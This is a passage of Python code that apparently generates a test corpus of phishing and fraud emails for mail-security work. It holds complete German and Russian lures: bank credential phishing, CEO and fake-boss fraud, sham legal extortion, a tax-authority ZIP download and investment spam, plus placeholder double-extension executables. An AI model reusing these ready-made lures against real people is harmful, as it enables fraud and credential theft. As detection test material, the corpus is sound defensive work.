<p>Für Ihren Zugang zu <b>S-Firmenkunden</b> wurde die Aktualisierung noch nicht durchgeführt. Ohne Aktualisierung wird Ihr Online-Banking-Zugang aus Sicherheitsgründen vorübergehend gesperrt. Eine Entsperrung ist dann nur noch in Ihrer Filiale möglich.</p>
<p style="text-align:center;margin:28px 0"><a href="%s" style="background:#ff0000;color:#fff;padding:12px 30px;text-decoration:none;border-radius:4px">Jetzt aktualisieren</a></p>
<p>Die Aktualisierung dauert nur wenige Minuten. Halten Sie bitte Ihr Smartphone mit der S-pushTAN-App bereit.</p>
<p>Mit freundlichen Grüßen<br>Ihre Sparkasse Nürnberg<br>Firmenkundenservice</p>
</div>
<p style="font-size:11px;color:#777">Sparkasse Nürnberg · Lorenzer Platz 12 · 90402 Nürnberg · Diese E-Mail wurde automatisch erstellt.</p>
</div>""" % link.replace("&", "&amp;"), "Sparkasse", lang="de", cs="iso-8859-1")
    root = M.text(html, "html", "iso-8859-1", "base64")
    auth = authres(spf=("pass", "kundenservice@s-firmenkunden-info.de", "193.233.19.41"), dkim_=None,
                   dmarc=("none", "s-firmenkunden-info.de", "NONE"), seed=seed)
    return mk(folder=F, nn=10, lang="de", short="sparkasse-pushtan", charset="iso-8859-1",
              desc="HTML-only savings-bank pushTAN re-registration phish for the CFO whose button goes through a search-engine click redirect to the credential site.",
              when=when, frm=M.addr("Sparkasse Nürnberg", "kundenservice@s-firmenkunden-info.de", "iso-8859-1", "Q"),
              to=M.addr(n, a), subject="Wichtig: Ihr pushTAN-Zugang für S-Firmenkunden wird am 07.12.2026 gesperrt",
              subj_cs="iso-8859-1", subj_enc="Q", root=root, mail_from="kundenservice@s-firmenkunden-info.de",
              helo="s-firmenkunden-info.de", rdns="vm2384.hosted-by-vdsina.com", ip="193.233.19.41", auth=auth,
              msgid=msgid_generic(seed, "s-firmenkunden-info.de", when))


def a11():
    seed = "a11"
    when = M.dt(1, 19, 26, 44, "DE")
    n, a = who("a.schaefer")
    body = """Sehr geehrte Frau Schäfer,

mit großem Interesse habe ich Ihre Stellenanzeige als Sachbearbeiterin Buchhaltung (m/w/d) am Standort Nürnberg gelesen (Ref. 2026-117).

Ich bin gelernte Steuerfachangestellte und habe in den letzten sechs Jahren in der Kreditoren- und Debitorenbuchhaltung eines mittelständischen Logistikunternehmens gearbeitet. Sehr gute Kenntnisse in DATEV und SAP S/4HANA sowie sicheres Englisch bringe ich mit.

Meine vollständigen Bewerbungsunterlagen (Anschreiben, Lebenslauf und Zeugnisse) finden Sie im Anhang als ZIP-Datei, da die Dateien einzeln zu groß waren.

Über eine Einladung zu einem persönlichen Gespräch freue ich mich sehr.

Mit freundlichen Grüßen
Julia Schmidt

Tel. 0176 48213907
"""
    anschr = M.pdf([[("h", "Julia Schmidt"), "Bahnhofstraße 41 · 91052 Erlangen · 0176 48213907", ("gap", ""),
                     ("b", "Bewerbung als Sachbearbeiterin Buchhaltung (Ref. 2026-117)"), ("gap", ""),
                     "Sehr geehrte Frau Schäfer,", ("gap", ""),
                     "mit großem Interesse habe ich Ihre Stellenanzeige gelesen. Als gelernte Steuerfachangestellte",
                     "mit sechs Jahren Erfahrung in der Kreditoren- und Debitorenbuchhaltung bringe ich ...", ("gap", ""),
                     "Mit freundlichen Grüßen", "Julia Schmidt"]], title="Anschreiben", author="Julia Schmidt",
                   producer="LibreOffice 24.8", date="D:20261201190212+01'00'")
    lnk = (b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + b"\x00" * 56 +
           "PLACEHOLDER: harmless test bytes standing in for a Windows shortcut. Not functional.".encode("utf-16-le"))
    z = M.zipfile_bytes([("Bewerbung_Julia_Schmidt/Anschreiben_Julia_Schmidt.pdf", anschr),
                         ("Bewerbung_Julia_Schmidt/Lebenslauf_Julia_Schmidt.pdf.lnk", lnk),
                         ("Bewerbung_Julia_Schmidt/Zeugnisse_Julia_Schmidt.pdf.lnk", lnk)],
                        date_time=(2026, 12, 1, 19, 11, 40))
    root = M.multipart("mixed", [M.text(body, "plain", "utf-8", "quoted-printable", flowed=True),
                                 M.attachment(z, "application/zip", "Bewerbungsunterlagen_Julia_Schmidt.zip")],
                       bnd(seed, "tb"))
    auth = authres(spf=("pass", "julia.schmidt.bewerbung@web.de", "212.227.15.4"),
                   dkim_=("pass", "web.de", "s29768273"), dmarc=("pass", "web.de", "QUARANTINE"), seed=seed)
    return mk(folder=F, nn=11, lang="de", short="bewerbung-lnk-zip", charset="utf-8",
              desc="Job application from a free-mail account carrying a ZIP with a real cover-letter PDF plus double-extension shortcut files (placeholder bytes) posing as CV and references.",
              when=when, frm=M.addr("Julia Schmidt", "julia.schmidt.bewerbung@web.de"), to=M.addr(n, a),
              subject="Bewerbung als Sachbearbeiterin Buchhaltung (Ref. 2026-117)", root=root,
              mail_from="julia.schmidt.bewerbung@web.de", helo="mout.web.de", rdns="mout.web.de", ip="212.227.15.4",
              auth=auth, hops=[hop("[192.168.178.23] ([91.64.118.202])", "smtp.web.de (mrweb005 [213.165.67.108])", when,
                                   "ESMTPSA (Nemesis)", "1M%s" % M.alnum(seed, 16))],
              pre=[("DKIM-Signature", dkim("web.de", "s29768273", seed, when))],
              msgid=msgid_uuid(seed, "web.de"),
              extra=[("User-Agent", "Mozilla Thunderbird"), ("Content-Language", "de-DE"),
                     ("X-Provags-ID", "V03:K1:" + M.b64str(seed + "pv", 30))])


def a12():
    seed = "a12"
    when = M.dt(2, 9, 31, 7, "DE")
    n, a = who("t.brandt")
    acct = M.iban("DE", "76090500" + "0004418275")
    body = """Sehr geehrte Damen und Herren,

hiermit zeigen wir an, dass wir die rechtlichen Interessen unseres Mandanten, Herrn Kevin Albrecht, vertreten. Eine auf uns lautende Vollmacht wird anwaltlich versichert.

Unser Mandant hat am 24.11.2026 Ihre Website www.example.com aufgerufen und dabei festgestellt, dass Ihr Online-Angebot (Kontaktformular, Kundenportal und Online-Terminbuchung) nicht den Anforderungen des Barrierefreiheitsstärkungsgesetzes (BFSG) in Verbindung mit der BFSGV entspricht. Insbesondere fehlen Alternativtexte, eine ausreichende Kontrastierung sowie eine Erklärung zur Barrierefreiheit.

Unserem Mandanten ist hierdurch ein Schaden entstanden. Wir fordern Sie daher auf,

1. die beigefügte strafbewehrte Unterlassungs- und Verpflichtungserklärung bis zum 09.12.2026 unterzeichnet an uns zurückzusenden und
2. zur Abgeltung sämtlicher Ansprüche einschließlich unserer Kosten einen pauschalen Vergleichsbetrag von 1.480,00 EUR bis zum 09.12.2026 auf unser Anderkonto zu überweisen:

Empfänger: RA Dr. Berger, Anderkonto
IBAN: {iban}
Verwendungszweck: Az. 1147/26-BF

Nach fruchtlosem Fristablauf werden wir unserem Mandanten empfehlen, die Ansprüche ohne weitere Ankündigung gerichtlich geltend zu machen. Die dann entstehenden Kosten liegen erheblich über dem hier angebotenen Vergleichsbetrag.

Mit freundlichen Grüßen

Dr. jur. Matthias Berger
Rechtsanwalt

Rechtsanwaltskanzlei Dr. Berger & Kollegen
Kurfürstendamm 182 · 10707 Berlin
""".replace("{iban}", M.iban_fmt(acct))
    pdf = M.pdf([[("h", "Rechtsanwaltskanzlei Dr. Berger & Kollegen"), ("s", "Kurfürstendamm 182 · 10707 Berlin"), ("gap", ""),
                  "Example Group GmbH", "z. Hd. der Geschäftsführung", "90402 Nürnberg", ("gap", ""),
                  ("r", "Berlin, 02.12.2026"), ("b", "Unser Az.: 1147/26-BF"), ("gap", ""),
                  ("b", "Abmahnung wegen Verstoßes gegen das Barrierefreiheitsstärkungsgesetz (BFSG)"), ("gap", ""),
                  "Sehr geehrte Damen und Herren,",
                  "namens und in Vollmacht unseres Mandanten mahnen wir Sie wegen der nicht barrierefreien",
                  "Gestaltung Ihres Online-Angebots ab (§§ 3, 14 BFSG i.V.m. BFSGV, §§ 3a, 8 UWG).", ("gap", ""),
                  "Vergleichsbetrag: 1.480,00 EUR, zahlbar bis 09.12.2026",
                  "IBAN: " + M.iban_fmt(acct), "Verwendungszweck: Az. 1147/26-BF", ("gap", ""),
                  ("b", "Strafbewehrte Unterlassungs- und Verpflichtungserklärung"),
                  "Die Example Group GmbH verpflichtet sich gegenüber Herrn Kevin Albrecht, es bei Meidung einer",
                  "für jeden Fall der Zuwiderhandlung fälligen Vertragsstrafe von 5.100,00 EUR zu unterlassen, ...",
                  ("gap", ""), "______________________________", "Ort, Datum, Unterschrift / Firmenstempel"]],
                title="Abmahnung Az. 1147/26-BF", author="RA Dr. Berger", producer="Microsoft Word for Microsoft 365",
                date="D:20261202090011+01'00'")
    root = M.multipart("mixed", [M.text(body, "plain", "iso-8859-1", "base64"),
                                 M.attachment(pdf, "application/pdf", "Abmahnung_Az_1147-26-BF.pdf")], bnd(seed, "nextpart"))
    auth = authres(spf=("pass", "kanzlei@ra-berger-kollegen.de", "185.104.29.88"),
                   dkim_=("pass", "ra-berger-kollegen.de", "default"), dmarc=("none", "ra-berger-kollegen.de", "NONE"), seed=seed)
    return mk(folder=F, nn=12, lang="de", short="bfsg-abmahnung", charset="iso-8859-1",
              desc="Mass 'cease-and-desist' extortion from a sham law firm citing the German accessibility act, demanding a settlement to an escrow IBAN with a PDF declaration.",
              when=when, frm=M.addr("Rechtsanwaltskanzlei Dr. Berger & Kollegen", "kanzlei@ra-berger-kollegen.de"),
              to=M.addr(n, a),
              subject="Abmahnung wegen Verstoßes gegen das Barrierefreiheitsstärkungsgesetz (BFSG) – Az. 1147/26-BF",
              subj_cs="iso-8859-1", subj_enc="Q", root=root, mail_from="kanzlei@ra-berger-kollegen.de",
              helo="mail.ra-berger-kollegen.de", rdns="vmi1284471.contaboserver.net", ip="185.104.29.88", auth=auth,
              pre=[("DKIM-Signature", dkim("ra-berger-kollegen.de", "default", seed, when))],
              msgid=msgid_generic(seed, "ra-berger-kollegen.de", when), extra=[("X-Mailer", "Microsoft Outlook 16.0")])


def a13():
    seed = "a13"
    when = M.dt(3, 8, 47, 30, "DE")
    n, a = who("k.vogel")
    body = """Guten Tag Frau Vogel,

ich muss Sie heute in einer streng vertraulichen Angelegenheit um Ihre Unterstützung bitten.

Wir befinden uns in der Schlussphase der Übernahme eines Logistikunternehmens in Südosteuropa (interner Projektname „Adler“). Die Transaktion unterliegt bis zur offiziellen Bekanntgabe strengen Verschwiegenheitspflichten; außer Ihnen und mir ist intern niemand informiert. Bitte sprechen Sie auch nicht mit Herrn Martínez oder der Buchhaltung darüber.

Die Transaktion wird von Herrn Dr. Reinhard Falk (Falk & Partner Rechtsanwälte, Frankfurt) begleitet. Er wird sich heute noch per E-Mail bei Ihnen melden und Ihnen die Einzelheiten zur ersten Zahlung (Anzahlung auf das Treuhandkonto) mitteilen. Bitte folgen Sie seinen Anweisungen, ich habe die Zahlung bereits freigegeben.

Ich bin den ganzen Tag in Verhandlungen und telefonisch nicht erreichbar. Bitte bestätigen Sie mir kurz per E-Mail, dass Sie heute verfügbar sind.

Beste Grüße
Thomas Brandt

Von meinem iPad gesendet
"""
    root = M.text(body, "plain", "windows-1252", "quoted-printable")
    auth = authres(spf=("pass", "t.brandt@example-group.eu", "45.137.22.96"), dkim_=None,
                   dmarc=("none", "example-group.eu", "NONE"), seed=seed)
    return mk(folder=F, nn=13, lang="de", short="ceo-fraud-adler", charset="windows-1252",
              desc="Classic 'fake president' fraud from a hyphenated look-alike of the group domain, announcing a secret acquisition and a lawyer who will give payment instructions.",
              when=when, frm=M.addr("Thomas Brandt", "t.brandt@example-group.eu"), to=M.addr(n, a),
              subject="Vertraulich – Projekt Adler", subj_cs="windows-1252", subj_enc="Q", root=root,
              mail_from="t.brandt@example-group.eu", helo="mail.example-group.eu", rdns="mail.example-group.eu",
              ip="45.137.22.96", auth=auth, msgid=msgid_uuid(seed, "example-group.eu", upper=True),
              extra=[("X-Mailer", "iPad Mail (22B91)"), ("X-Priority", "1")])


def a14():
    seed = "a14"
    when = M.dt(1, 10, 4, 51, "DE")
    n, a = who("s.krueger")
    acct = M.iban("DE", "50010517" + "5418832910")
    body = """Sehr geehrte Damen und Herren,

zur Aktualisierung Ihres Eintrags im Zentralen Gewerbe-Verzeichnis Deutschland (ZGV) übersenden wir Ihnen anbei den Datenabgleich für

Example Group GmbH
90402 Nürnberg
Registernummer: ZGV-2026-883512

Bitte prüfen Sie die Angaben auf dem beigefügten Formular. Zur Bestätigung des Eintrags überweisen Sie bitte den Betrag von 949,62 € (789,60 € zzgl. 19 % MwSt.) bis zum 11.12.2026 auf folgendes Konto:

Empfänger: ZGV Zentrales Gewerbe-Verzeichnis
IBAN: {iban}
BIC: INGDDEFFXXX
Verwendungszweck: ZGV-2026-883512

Mit freundlichen Grüßen
Ihr ZGV-Team

Hinweis: Es handelt sich um ein Angebot zur Eintragung in ein privates Branchenverzeichnis. Mit Zahlung des Betrags nehmen Sie das Angebot an (Laufzeit 3 Jahre, jährliche Zahlungsweise, Verlängerung um jeweils ein Jahr, sofern nicht 3 Monate vor Ablauf gekündigt wird). Es besteht keine Verbindung zu amtlichen Registern.
""".replace("{iban}", M.iban_fmt(acct))
    pdf = M.pdf([[("h", "ZGV - Zentrales Gewerbe-Verzeichnis Deutschland"), ("s", "Datenabgleich / Eintragungsofferte"), ("gap", ""),
                  ("b", "Rechnungs-/Registernummer: ZGV-2026-883512"), "Datum: 01.12.2026", ("gap", ""),
                  "Firma: Example Group GmbH", "Ort: 90402 Nürnberg", "Branche: Spedition und Logistik", ("gap", ""),
                  ("b", "Leistung: Eintragung Premium (Jahresgebühr)                     789,60 EUR"),
                  "zzgl. 19 % MwSt.                                                      150,02 EUR",
                  ("b", "Zahlbetrag                                                           939,62 EUR"), ("gap", ""),
                  "Zahlbar bis 11.12.2026 auf IBAN " + M.iban_fmt(acct), ("gap", ""),
                  ("s", "Angebot: Laufzeit 3 Jahre. Mit Zahlung kommt der Vertrag zustande. Keine Verbindung zu amtlichen Registern."),
                  ("s", "Gerichtsstand Berlin. Es gelten unsere AGB.")]],
                title="ZGV-2026-883512", producer="mPDF 8.2", date="D:20261201095911+01'00'")
    root = M.multipart("mixed", [M.text(body, "plain", "iso-8859-15", "quoted-printable"),
                                 M.attachment(pdf, "application/pdf", "ZGV-2026-883512.pdf")], bnd(seed, "b1"))
    auth = authres(spf=("pass", "service@zgv-deutschland.de", "194.76.226.18"),
                   dkim_=("pass", "zgv-deutschland.de", "default"), dmarc=("pass", "zgv-deutschland.de", "NONE"), seed=seed)
    return mk(folder=F, nn=14, lang="de", short="register-offerte", charset="iso-8859-15",
              desc="Invoice-like 'business register' offer scam addressed to accounts payable, with the subscription terms buried in small print and a payable IBAN.",
              when=when, frm=M.addr("Zentrales Gewerbe-Verzeichnis Deutschland", "service@zgv-deutschland.de"),
              to=M.addr(n, a, "iso-8859-15", "Q"),
              subject="Datenabgleich / Eintragung Example Group GmbH – Nr. ZGV-2026-883512", subj_cs="iso-8859-15",
              subj_enc="Q", root=root, mail_from="service@zgv-deutschland.de", helo="mx.zgv-deutschland.de",
              rdns="mx.zgv-deutschland.de", ip="194.76.226.18", auth=auth,
              pre=[("DKIM-Signature", dkim("zgv-deutschland.de", "default", seed, when))],
              msgid=msgid_generic(seed, "zgv-deutschland.de", when), extra=[("X-Mailer", "PHPMailer 6.8.0")])


def a15():
    seed = "a15"
    when = M.dt(2, 13, 21, 4, "DE")
    link = ("https://www.canva.com/design/DAGz4kT1pQ8/ZrX3vN9cQ2mLwE7yHs5aBg/view?utm_content=DAGz4kT1pQ8"
            "&utm_campaign=designshare&utm_medium=link2&utm_source=uniquelinks&utlId=h" + M.hexid(seed, 10))
    fname = "Einkaufskonditionen_2027_final.pdf"
    plain = """Jens Wagner hat eine Datei für Sie freigegeben.

%s
Bitte bis Freitag prüfen und freigeben - danke! Jens

Öffnen: %s

Diese E-Mail wurde an Sie gesendet, weil Jens Wagner eine Datei für Sie freigegeben hat.
Datenschutzerklärung von Microsoft
""" % (fname, link)
    html = html_doc("""
<table width="520" cellpadding="0" cellspacing="0" style="font-family:Segoe UI,Arial,sans-serif;border:1px solid #e1e1e1">
<tr><td style="padding:24px">
<p style="font-size:21px;margin:0 0 12px 0">Jens Wagner hat eine Datei für Sie freigegeben.</p>
<table cellpadding="8" style="background:#f8f8f8;width:100%%"><tr>
<td width="40"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240610.001/assets/item-types/48/pdf.png" width="32" alt="PDF"></td>
<td style="font-size:15px"><b>%s</b></td></tr></table>
<p style="font-size:14px;color:#333">„Bitte bis Freitag prüfen und freigeben – danke! Jens“</p>
<p><a href="%s" style="background:#0f6cbd;color:#fff;padding:9px 22px;text-decoration:none;font-size:14px">Öffnen</a></p>
</td></tr>
<tr><td style="padding:14px 24px;font-size:11px;color:#777;border-top:1px solid #eee">Diese E-Mail wurde an Sie gesendet, weil Jens Wagner eine Datei für Sie freigegeben hat. <a href="https://go.microsoft.com/fwlink/?LinkId=521839">Datenschutzerklärung</a> von Microsoft</td></tr>
</table>""" % (fname, link.replace("&", "&amp;")), lang="de")
    root = alt(seed, plain, html, "utf-8")
    return internal(folder=F, nn=15, lang="de", short="internal-compromised-share", charset="utf-8",
                    desc="Account-takeover phish sent from a genuinely compromised internal mailbox through the internal relay, imitating a SharePoint share but linking to a design on a legitimate cloud design service.",
                    when=when, frm_key="j.wagner", to_keys=["s.krueger", "k.vogel", "l.hartmann"],
                    subject="Jens Wagner hat „%s“ für Sie freigegeben" % fname, root=root,
                    client_ip="185.220.101.47", lang_tag="de-DE")

# ------------------------------------------------------------------------------------------ Russian


def a16():
    seed = "a16"
    when = M.dt(1, 11, 14, 3, "RU")
    n, a = who("e.kuznetsova")
    body = """Добрый день!

Направляем Вам акт сверки взаиморасчетов за 4 квартал 2026 г. по договору поставки № 47/2026-П.
По нашим данным, за Вашей организацией числится задолженность в размере 386 420,00 руб.

Просим в течение 3 (трёх) рабочих дней проверить, подписать и вернуть скан-копию акта.
В случае неполучения подписанного акта или мотивированных возражений акт считается согласованным.

Файл в архиве защищён паролем (требование нашей службы безопасности).
Пароль к архиву: 4471

С уважением,
Главный бухгалтер
ООО «СтройТехСнаб»
Полякова Татьяна Викторовна
тел. +7 (495) 139-42-87
"""
    payload = b"MZ" + b"\x00" * 62 + b"PLACEHOLDER - harmless test bytes standing in for an executable. Not functional.\r\n"
    z = M.zip_encrypted([("Акт сверки 4 кв 2026 СтройТехСнаб.pdf.exe", payload)], "4471", seed,
                        date_time=(2026, 12, 1, 10, 58, 12))
    root = M.multipart("mixed", [M.text(body, "plain", "windows-1251", "base64"),
                                 M.attachment(z, "application/zip", "Акт_сверки_4кв_2026.zip", name_style="2047")],
                       bnd(seed, "b1"))
    auth = authres(spf=("pass", "buh.stroytehsnab@mail.ru", "95.163.41.85"),
                   dkim_=("pass", "mail.ru", "mail4"), dmarc=("pass", "mail.ru", "REJECT"), seed=seed)
    return mk(folder=F, nn=16, lang="ru", short="akt-sverki-zip", charset="windows-1251",
              desc="Reconciliation-statement lure from a free-mail account with a password-protected ZIP (password in the body) hiding a double-extension executable placeholder.",
              when=when, frm=M.addr("Бухгалтерия СтройТехСнаб", "buh.stroytehsnab@mail.ru", "windows-1251"),
              to=M.addr(n, a, "windows-1251"), subject="Акт сверки взаиморасчетов за 4 квартал 2026 г.",
              subj_cs="windows-1251", root=root, mail_from="buh.stroytehsnab@mail.ru", helo="smtp47.i.mail.ru",
              rdns="smtp47.i.mail.ru", ip="95.163.41.85", auth=auth,
              hops=["from [46.242.10.77] (port=51822 helo=[192.168.0.103])\r\n\tby smtp47.i.mail.ru with esmtpa "
                    "(envelope-from <buh.stroytehsnab@mail.ru>)\r\n\tid 1vQx8E-%s-3Kfn; %s" % (M.alnum(seed, 14), M.rfcdate(when))],
              pre=[("DKIM-Signature", dkim("mail.ru", "mail4", seed, when))],
              msgid="<%s@smtp47.i.mail.ru>" % M.hexid(seed, 24), extra=[("X-Mailer", "Mail.Ru Mailer 1.0")])


def a17():
    seed = "a17"
    when = M.dt(1, 16, 40, 12, "RU")
    n, a = who("d.sokolov")
    inn = M.ru_inn10("770451238")
    link = "https://nalog-gov.ru/lkul/docs/trebovanie_14-27-38815.zip"
    html = html_doc("""
<table width="620" style="font-family:Arial,sans-serif;font-size:14px;color:#1a1a1a;border:1px solid #cfd8e3">
<tr><td style="background:#004a8f;color:#ffffff;padding:16px 20px;font-size:18px">ФЕДЕРАЛЬНАЯ НАЛОГОВАЯ СЛУЖБА</td></tr>
<tr><td style="padding:20px">
<p>Уважаемый налогоплательщик!</p>
<p>Межрайонная ИФНС России № 46 по г. Москве направляет в адрес ООО «Экзампл Груп Рус» (ИНН %s) требование о представлении пояснений № 14-27/38815 от 01.12.2026 в соответствии со статьей 88 Налогового кодекса Российской Федерации.</p>
<p>В ходе камеральной налоговой проверки налоговой декларации по НДС за 3 квартал 2026 г. выявлены расхождения со сведениями, представленными контрагентами.</p>
<p>Пояснения необходимо представить в течение <b>5 (пяти) рабочих дней</b>. Непредставление пояснений в установленный срок влечет ответственность по ст. 129.1 НК РФ (штраф 5 000 руб.), а также может повлечь приостановление операций по счетам организации.</p>
<p style="margin:24px 0"><a href="%s" style="background:#004a8f;color:#ffffff;padding:10px 22px;text-decoration:none">Скачать требование (ZIP, 412 КБ)</a></p>
<p style="font-size:12px;color:#555555">Письмо сформировано автоматически, отвечать на него не нужно.<br>© ФНС России, 2026</p>
</td></tr></table>""" % (inn, link), "ФНС России", lang="ru", cs="koi8-r")
    root = M.text(html, "html", "koi8-r", "base64")
    auth = authres(spf=("pass", "uvedomlenie@nalog-gov.ru", "92.53.96.144"), dkim_=None,
                   dmarc=("none", "nalog-gov.ru", "NONE"), seed=seed)
    return mk(folder=F, nn=17, lang="ru", short="fns-trebovanie", charset="koi8-r",
              desc="HTML-only tax-authority 'demand for explanations' from a look-alike government domain with a download link to a ZIP payload.",
              when=when, frm=M.addr("ФНС России", "uvedomlenie@nalog-gov.ru", "koi8-r"), to=M.addr(n, a, "koi8-r"),
              subject="Требование о представлении пояснений № 14-27/38815 от 01.12.2026", subj_cs="utf-8",
              root=root, mail_from="uvedomlenie@nalog-gov.ru", helo="mail.nalog-gov.ru", rdns="vds-cv42171.timeweb.ru",
              ip="92.53.96.144", auth=auth, msgid=msgid_generic(seed, "nalog-gov.ru", when))


def a18():
    seed = "a18"
    when = M.dt(2, 7, 5, 55, "RU")
    n, a = who("a.morozov")
    link = "https://examplegroup-eu.owa-quota.ru/owa/auth/logon.aspx?replaceCurrent=1&email=a.morozov%40examplegroup.eu"
    plain = """Уважаемый пользователь!

Ваш почтовый ящик a.morozov@examplegroup.eu почти заполнен (98%, 4,9 ГБ из 5 ГБ).
Начиная с 03.12.2026 входящие письма будут задерживаться и возвращаться отправителям.

Чтобы бесплатно увеличить квоту до 50 ГБ, подтвердите учётную запись:

https://mail.examplegroup.eu/owa/

Если вы не подтвердите учётную запись в течение 24 часов, ящик будет временно заблокирован.

С уважением,
Служба ИТ-поддержки
Example Group
"""
    html = html_doc("""<p>Уважаемый пользователь!</p>
<p>Ваш почтовый ящик <b>a.morozov@examplegroup.eu</b> почти заполнен (<span style="color:#c00000"><b>98%%</b></span>, 4,9 ГБ из 5 ГБ).<br>
Начиная с 03.12.2026 входящие письма будут задерживаться и возвращаться отправителям.</p>
<table style="width:400px;border:1px solid #999"><tr><td style="background:#c00000;width:98%%;height:14px"></td><td style="background:#eee"></td></tr></table>
<p>Чтобы бесплатно увеличить квоту до 50 ГБ, подтвердите учётную запись:</p>
<p><a href="%s">https://mail.examplegroup.eu/owa/</a></p>
<p>Если вы не подтвердите учётную запись в течение 24 часов, ящик будет временно заблокирован.</p>
<p>С уважением,<br>Служба ИТ-поддержки<br>Example Group</p>""" % link, lang="ru", cs="iso-8859-5")
    root = alt(seed, plain, html, "iso-8859-5")
    auth = authres(spf=("pass", "noreply@srv1.hosting-mail-relay.ru", "185.22.153.40"), dkim_=None,
                   dmarc=("fail", "examplegroup.eu", "NONE"), seed=seed)
    return mk(folder=F, nn=18, lang="ru", short="mailbox-quota", charset="iso-8859-5",
              desc="Mailbox-quota credential phish spoofing the company postmaster (DMARC fail on the secondary domain) whose displayed webmail URL differs from the real link target.",
              when=when, frm=M.addr("Администратор почтовой системы", "postmaster@examplegroup.eu", "iso-8859-5"),
              to=M.addr("", a), subject="Почтовый ящик a.morozov@examplegroup.eu переполнен – 98% (4,9 ГБ из 5 ГБ)",
              subj_cs="iso-8859-5", root=root, mail_from="noreply@srv1.hosting-mail-relay.ru",
              helo="srv1.hosting-mail-relay.ru", rdns="185-22-153-40.cloudvps.regruhosting.ru", ip="185.22.153.40",
              auth=auth, msgid=msgid_generic(seed, "srv1.hosting-mail-relay.ru", when), extra=[("X-Priority", "1")])


def a19():
    seed = "a19"
    when = M.dt(29, 12, 30, 0, "RU")
    n, a = who("a.morozov")
    link = "https://gaz-capital.click/lp/ru/?utm_source=mail&utm_campaign=dec26&sub1=" + M.hexid(seed, 8)
    hidden = " ".join(["квартира", "погода", "рецепт", "футбол", "дача", "машина", "отпуск", "кофе", "книга", "море"])
    plain = """Алексей, здравствуйте!

Вы получили это письмо, потому что вошли в число участников программы «Народный инвестор 2027».

Начните получать пассивный доход от 150 000 ₽ в месяц на росте акций крупнейших энергетических компаний России. Торговлю за вас ведёт искусственный интеллект, вам не нужен опыт.

- Стартовый депозит всего от 25 000 ₽
- Первая выплата уже через 7 дней
- Вывод на любую карту РФ или в USDT
- Личный финансовый куратор

Осталось 7 мест на декабрь. Оставьте заявку, и наш специалист перезвонит вам в течение 15 минут:
%s

Отписаться от рассылки: https://gaz-capital.click/unsub?e=%s
""" % (link, M.hexid(seed + "u", 12))
    html = html_doc("""
<div style="max-width:600px;margin:auto;font-family:Arial;background:#0a2a52;color:#ffffff;padding:24px">
<h1 style="color:#ffcc00">Пассивный доход от 150 000 ₽ в месяц</h1>
<p>Алексей, вы вошли в число участников программы <b>«Народный инвестор 2027»</b>.</p>
<ul><li>Стартовый депозит всего от 25 000 ₽</li><li>Первая выплата уже через 7 дней</li><li>Вывод на карту РФ или в USDT</li><li>Личный финансовый куратор</li></ul>
<p>«Я начал с 30 000 ₽, сейчас получаю 210 000 ₽ в месяц» — Сергей, 44 года, Казань</p>
<p style="text-align:center"><a href="%s" style="background:#ffcc00;color:#000;padding:14px 34px;font-size:18px;text-decoration:none">ОСТАВИТЬ ЗАЯВКУ</a></p>
<p style="font-size:11px;color:#8aa">Осталось 7 мест на декабрь.</p>
</div>
<div style="display:none;font-size:1px;color:#ffffff;max-height:0;overflow:hidden">%s</div>
<p style="font-size:10px;color:#999;text-align:center"><a href="https://gaz-capital.click/unsub?e=%s">Отписаться</a></p>""" % (
        link, hidden, M.hexid(seed + "u", 12)), lang="ru")
    root = alt(seed, plain, html, "utf-8", "base64", style="b1")
    auth = authres(spf=("pass", "bounce@gazcapital-invest.ru", "176.113.115.20"),
                   dkim_=("pass", "gazcapital-invest.ru", "mail"), dmarc=("pass", "gazcapital-invest.ru", "NONE"), seed=seed)
    return mk(folder=F, nn=19, lang="ru", short="invest-scam", charset="utf-8",
              desc="Bulk investment-fraud spam promising passive income from energy shares with AI trading, hidden hash-busting text and a lead-capture link.",
              when=when, frm=M.addr("Инвест-Клуб «Газ Капитал»", "news@gazcapital-invest.ru"), to=M.addr("", a),
              subject="Алексей, ваш пассивный доход от 150 000 ₽ в месяц уже ждёт вас", root=root,
              mail_from="bounce@gazcapital-invest.ru", helo="mta3.gazcapital-invest.ru", rdns=None,
              ip="176.113.115.20", auth=auth, pre=[("DKIM-Signature", dkim("gazcapital-invest.ru", "mail", seed, when))],
              msgid=msgid_generic(seed, "gazcapital-invest.ru", when),
              extra=[("List-Unsubscribe", "<https://gaz-capital.click/unsub?e=%s>" % M.hexid(seed + "u", 12)),
                     ("Precedence", "bulk")])


def a20():
    seed = "a20"
    when = M.dt(2, 10, 17, 26, "RU")
    n, a = who("e.kuznetsova")
    body = """Елена, добрый день.

Сообщаю Вам конфиденциально: в отношении нашей компании ведётся проверка, связанная с утечкой финансовых данных и подозрением в переводе средств в пользу недружественных структур.

Проверку курирует сотрудник ФСБ, полковник Ковалёв Андрей Викторович. Он свяжется с Вами сегодня по телефону или в Telegram. Прошу оказать ему полное содействие и строго следовать его указаниям, в том числе по операциям с расчётными счетами.

До окончания проверки никому в офисе, в том числе в Нюрнберге, об этом не сообщайте, это требование следствия. По телефону я сейчас говорить не могу, пишите мне только в Telegram: @dsokolov_work

Дмитрий Соколов
Руководитель московского офиса
Example Group
"""
    root = M.text(body, "plain", "koi8-r", "quoted-printable")
    auth = authres(spf=("pass", "sokolov.dmitry.exmpl@yandex.ru", "178.154.239.81"),
                   dkim_=("pass", "yandex.ru", "mail"), dmarc=("pass", "yandex.ru", "NONE"), seed=seed)
    return mk(folder=F, nn=20, lang="ru", short="fake-boss-fsb", charset="koi8-r",
              desc="'Fake boss' pretext from a free-mail account in the office head's name preparing the chief accountant for a call from a supposed security-service officer and moving the conversation to Telegram.",
              when=when, frm=M.addr("Дмитрий Соколов", "sokolov.dmitry.exmpl@yandex.ru", "koi8-r"),
              to=M.addr(n, a, "koi8-r"), subject="Конфиденциально", subj_cs="koi8-r", root=root,
              mail_from="sokolov.dmitry.exmpl@yandex.ru", helo="forward501a.mail.yandex.net",
              rdns="forward501a.mail.yandex.net", ip="178.154.239.81", auth=auth,
              hops=[hop("mail-nwsmtp-smtp-production-main-57.iva.yp-c.yandex.net (mail-nwsmtp-smtp-production-main-57.iva.yp-c.yandex.net [IPv6:2a02:6b8:c0c:a412:0:640:4d2a:0])",
                        "forward501a.mail.yandex.net (Yandex)", when, "ESMTPS", M.alnum(seed, 12))],
